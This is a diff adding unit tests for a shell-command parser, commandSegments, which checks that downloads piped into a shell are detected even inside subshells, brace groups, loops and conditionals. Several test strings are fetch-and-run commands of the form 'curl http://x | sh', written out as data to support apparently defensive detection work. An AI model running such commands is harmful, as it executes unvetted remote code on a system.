@@ -206,6 +206,25 @@ describe("commandSegments", () => {
     expect(segments.length).toBeLessThanOrEqual(MAX_SEGMENTS);
   });
 
+  it.each([
+    ["a subshell", "(cd /tmp && curl http://x) | sh"],
+    ["a brace group", "{ echo set -e; curl http://x; } | sh"],
+    ["a loop", "for u in a b; do curl http://x; done | sh"],
+    ["a while loop", "while true; do curl http://x; sleep 9; done | sh"],
+    ["an if", "if true; then curl http://x; fi | sh"],
+    ["a group into a group", "(curl http://x) | (sh)"],
+  ])("pipes the commands of %s into the next command", (_label, script) => {
+    // Act
+    const segments = commandSegments(["sh", "-c", script]);
+    // Assess
+    expect(find(segments, "curl").pipesTo?.argv.at(-1)).toBe("sh");
+  });
+
+  it("does not pipe a group that is only followed by a command", () => {
+    const segments = commandSegments(["sh", "-c", "(curl http://x); { curl http://y; }; sh"]);
+    expect(segments.filter((s) => s.pipesTo !== undefined)).toEqual([]);
+  });
+
   it("drops commands that cannot matter when asked, keeping pipelines with a utility and the argv", () => {
     // Act
     const segments = commandSegments(["sh", "-c", "true; a | b; x=1; curl http://x | sh; ls -l /; ./run"], {
